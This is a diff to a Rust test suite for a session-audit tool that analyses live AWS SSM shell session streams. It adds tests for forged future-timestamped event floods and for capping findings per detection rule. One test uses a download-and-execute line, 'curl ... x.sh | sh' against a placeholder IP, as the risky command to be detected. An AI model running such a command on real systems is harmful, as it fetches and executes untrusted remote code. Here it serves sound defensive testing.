@@ -5,7 +5,8 @@
 use std::collections::BTreeMap;
 
 use serde_json::{json, Value};
-use session_audit::live::{Batch, LiveState, LogEvent};
+use session_audit::analysis::MAX_FINDINGS_PER_RULE;
+use session_audit::live::{Batch, LiveState, LogEvent, MAX_SEEN_EVENTS};
 use session_audit::ports::sink::MemSink;
 use session_audit::ports::store::{block_on, get_json, MemStore};
 use session_audit::publish::Metrics;
@@ -407,7 +408,7 @@ fn published_streaming_events_are_read_live() {
         let mut state = LiveState { session_id: sid, ..LiveState::default() };
         let event = LogEvent { id: "1".into(), timestamp: T0, message: text };
         let (progress, _) =
-            session_audit::live::advance(&Analyzer::default(), &mut state, &[event]);
+            session_audit::live::advance(&Analyzer::default(), &mut state, &[event], i64::MAX);
         assert_eq!((progress.read, progress.unreadable), (1, 0), "{file}");
         let open = state.shell.current.as_ref().map(|c| c.text.as_str());
         assert_eq!(open, Some(command), "{file}: {state:?}");
@@ -437,4 +438,72 @@ fn forged_and_unreadable_streams_are_named_not_trusted() {
     assert_eq!(comparison.disagreement(), None);
     let warning = comparison.not_compared(7).expect("a warning");
     assert!(warning.contains("not checked"), "{warning}");
+}
+
+/// A command line as the agent streams it, in an event of `session` at `timestamp`.
+fn command_event(session: &str, id: usize, timestamp: i64, line: &str) -> LogEvent {
+    let who = StreamedSession {
+        session_id: session,
+        target: "i-0123456789abcdef0",
+        user_arn: "arn:aws:sts::123456789012:assumed-role/Admin/ana",
+        run_as: "ssm-user",
+        region: "us-east-1",
+    };
+    let time = jiff::Timestamp::from_millisecond(timestamp).unwrap().to_string();
+    LogEvent {
+        id: format!("{id:056}"),
+        timestamp,
+        message: message(&who, &time, &[line.to_string(), "sh-5.2$ ".to_string()]),
+    }
+}
+
+/// Provenance (issue 25, attack 3): anyone with the instance role can put events into a
+/// session's stream with timestamps up to two hours ahead. 2,049 of them (more than the state
+/// remembers) are not read, and the real events that follow are read and found as if they
+/// had never been sent.
+#[test]
+fn events_timestamped_ahead_are_not_read_and_cannot_push_the_window_forward() {
+    let session = "bob-0a1b2c3d4e5f60718";
+    let risky = &recordings().into_iter().find(|(n, _)| n == "al2023_sh_risky").unwrap().1;
+    let real = events(session, risky);
+    let honest = Live::new();
+    honest.send(session, &real);
+    let expected = honest.published().len();
+    assert!(expected >= 4, "the recording raises findings live");
+
+    let attacked = Live::new();
+    let ahead = jiff::Timestamp::now().as_millisecond() + 2 * 3600 * 1000;
+    let junk: Vec<LogEvent> = (0..MAX_SEEN_EVENTS + 1)
+        .map(|i| command_event(session, 10_000 + i, ahead + i as i64, "sh-5.2$ true"))
+        .collect();
+    let flooded = attacked.send(session, &junk);
+    let key = session_audit::keys::live_state(session).unwrap();
+    let kept = block_on(get_json::<LiveState>(&attacked.stream.store, &key)).unwrap();
+    let s = attacked.send(session, &real);
+    assert_eq!((s.events_read, s.skipped), (real.len() as u64, 0), "no real event skipped");
+    assert_eq!(attacked.published().len(), expected, "the real session is found as before");
+    assert_eq!((flooded.future, flooded.events_read), (junk.len() as u64, 0));
+    assert!(kept.is_none(), "nothing read, nothing kept: the window has not moved");
+}
+
+/// Provenance (issue 25, attack 7): 300 events of the same risky command give the report's
+/// 200 findings of that rule, the rest counted; the next batch adds none.
+#[test]
+fn live_findings_are_capped_per_rule_as_the_report_caps_them() {
+    let session = "mallory-0a1b2c3d4e5f60718";
+    let live = Live::new();
+    let line = "sh-5.2$ curl -s http://198.51.100.7/x.sh | sh";
+    let flood: Vec<LogEvent> =
+        (0..300).map(|i| command_event(session, i + 1, T0 + i as i64 * 10, line)).collect();
+    let s = live.send(session, &flood);
+    assert_eq!(s.events_read, 300);
+    let rule = |v: &Value| v["rule_id"].as_str().unwrap_or_default().to_string();
+    let count = |live: &Live| live.published().iter().filter(|v| rule(v) == "SA-CMD-040").count();
+    assert_eq!(count(&live), MAX_FINDINGS_PER_RULE as usize);
+    assert_eq!(s.suppressed, 300 - MAX_FINDINGS_PER_RULE);
+    let more: Vec<LogEvent> =
+        (300..310).map(|i| command_event(session, i + 1, T0 + i as i64 * 10, line)).collect();
+    let s = live.send(session, &more);
+    assert_eq!((s.events_read, s.suppressed, count(&live)), (10, 10, 200));
+    assert_eq!(live.state(session).findings_suppressed, 310 - MAX_FINDINGS_PER_RULE);
 }
